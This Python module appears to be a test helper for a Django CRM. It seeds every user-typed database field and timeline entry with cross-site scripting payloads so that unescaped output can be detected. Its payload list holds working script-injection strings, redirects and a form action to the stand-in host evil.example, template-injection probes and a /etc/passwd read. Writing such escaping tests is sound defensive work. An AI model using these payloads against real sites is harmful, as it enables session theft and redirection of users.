"""Texts that would become code where a page forgot to escape them."""

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from typing import Any

from django.apps import apps
from django.db import IntegrityError, models, transaction

from core import trail
from core.actors import Actor
from core.models import TrailEntry
from huaweicrm import registry

# Each element bears data-x: one of them in a page is a hole, whether a script ran or not.
PAYLOADS = [
    "<b data-x>",
    "<script data-x>alert(1)</script>",
    "<img data-x src=x onerror=alert(1)>",
    "<svg data-x onload=alert(1)>",
    '"><i data-x onmouseover=alert(1)>',
    "' autofocus data-x onfocus=alert(1) x='",
    '" autofocus data-x onfocus=alert(1) x="',
    "</script><script data-x>alert(1)</script>",
    "</title><script data-x>alert(1)</script>",
    "</textarea><img data-x src=x onerror=alert(1)>",
    "</select><iframe data-x srcdoc='<script>alert(1)</script>'>",
    "<!--><img data-x src=x onerror=alert(1)>-->",
    "]]><svg data-x><script>alert(1)</script></svg>",
    "<div data-x hx-get=/ hx-trigger=load hx-on::load=alert(1)>",
    "<details data-x open ontoggle=alert(1)>",
    "<math data-x><a xlink:href=javascript:alert(1)>",
    "<base data-x href=//evil.example/>",
    "<meta data-x http-equiv=refresh content=0;url=//evil.example>",
    "<link data-x rel=stylesheet href=//evil.example/x.css>",
    "<form data-x action=//evil.example><button>",
    "<a data-x href=javascript:alert(1)>",
    "&lt;img data-x src=x onerror=alert(1)&gt;",
    "\\u003cimg data-x src=x onerror=alert(1)\\u003e",
    "javascript:alert(1)//data-x",
    "data:text/html,<script data-x>alert(1)</script>",
    "{{7*7}}{% debug %}${7*7}#{7*7}",
    '#read("/etc/passwd") $ ] \\ @x <x> #panic("x")',
]
OURS = ("accounts", "relationships", "expectations", "service", "core")
# Keys, addresses and digests that a person never types.
MACHINE = {
    "password", "username", "language", "timezone", "zone", "currency", "code", "url", "prefix",
    "digest", "sha256", "path", "content_type", "channel", "kind", "once", "state", "series",
    "about_label", "scope_label", "source_label", "consumer", "key", "scope", "lease_token",
    "principal", "method", "fingerprint", "login", "ip", "about_code", "actor_kind",
    "haystack", "grams", "codes", "label", "outcome", "entitlement_basis",
}  # fmt: skip
TABLES = {"TrailEntry", "TrailPersonal", "TrailSeal", "FormSignature", "IdempotencyRecord", "Timer",
          "Event", "EventDelivery", "EventConsumer", "Heartbeat", "Sequence", "LoginAttempt",
          "ImportRow", "PolicyValue"}  # fmt: skip


def typed_fields() -> Iterator[tuple[type[models.Model], list[models.Field]]]:
    """(model, fields) of what people type, in every table that pages show."""
    for model in apps.get_models():
        if model._meta.app_label not in OURS or model.__name__ in TABLES:
            continue
        fields = [field for field in model._meta.concrete_fields if _is_typed(field)]
        if fields and model._meta.db_table not in registry.GUARDED:
            yield model, fields


def _is_typed(field: models.Field) -> bool:
    if isinstance(field, models.JSONField):
        return True
    text = isinstance(field, models.CharField | models.TextField)
    return text and not field.choices and not field.unique and field.name not in MACHINE


def poison() -> int:
    """Put a payload into every typed text of every row; how many texts."""
    turn, done = itertools.count(), 0
    for model, fields in typed_fields():
        for row in model._base_manager.order_by("pk"):
            said = {field.name: _said(row, field, turn) for field in fields}
            texts = {name: text for name, text in said.items() if text is not None}
            for some in (texts, *({name: text} for name, text in texts.items())):
                try:
                    with transaction.atomic():
                        model._base_manager.filter(pk=row.pk).update(**some)
                except IntegrityError:
                    continue  # one of them is bound to another column: each by itself
                done += len(some)
                if some is texts:
                    break
    return done


def _said(row: models.Model, field: models.Field, turn: Iterator[int]) -> Any:
    kept = getattr(row, field.attname)
    if isinstance(field, models.JSONField):
        return _poisoned(kept, turn) if kept else None
    if field.name == "snapshot":  # frozen text of a form: JSON, or not there yet
        return json.dumps(_poisoned(json.loads(kept), turn), ensure_ascii=False) if kept else None
    return fitting(field.max_length, next(turn))


def fitting(longest: int | None, turn: int) -> str:
    """A payload that a column can hold."""
    short = [text for text in PAYLOADS if longest is None or len(text) <= longest]
    return short[turn % len(short)] if short else "<b data-x>"[:longest]


def poison_trail(customer: Any, by: Actor, now: Any) -> int:
    """Every kind of entry of the timeline once more, with payloads in its facts; how many."""
    turn, done = itertools.count(), 0
    known: dict[str, TrailEntry] = {}
    for entry in TrailEntry.objects.order_by("pk"):
        known.setdefault(entry.verb, entry)
    for verb, entry in known.items():
        facts = _poisoned(json.loads(entry.facts), turn)
        trail.record(customer, verb, by=by, now=now, scope=customer, facts=facts)
        done += 1
    return done


def _poisoned(value: Any, turn: Iterator[int]) -> Any:
    if isinstance(value, dict):
        return {key: _poisoned(each, turn) for key, each in value.items()}
    if isinstance(value, list):
        return [_poisoned(each, turn) for each in value]
    typed = isinstance(value, str) and not value.isascii()
    return fitting(None, next(turn)) if typed else value
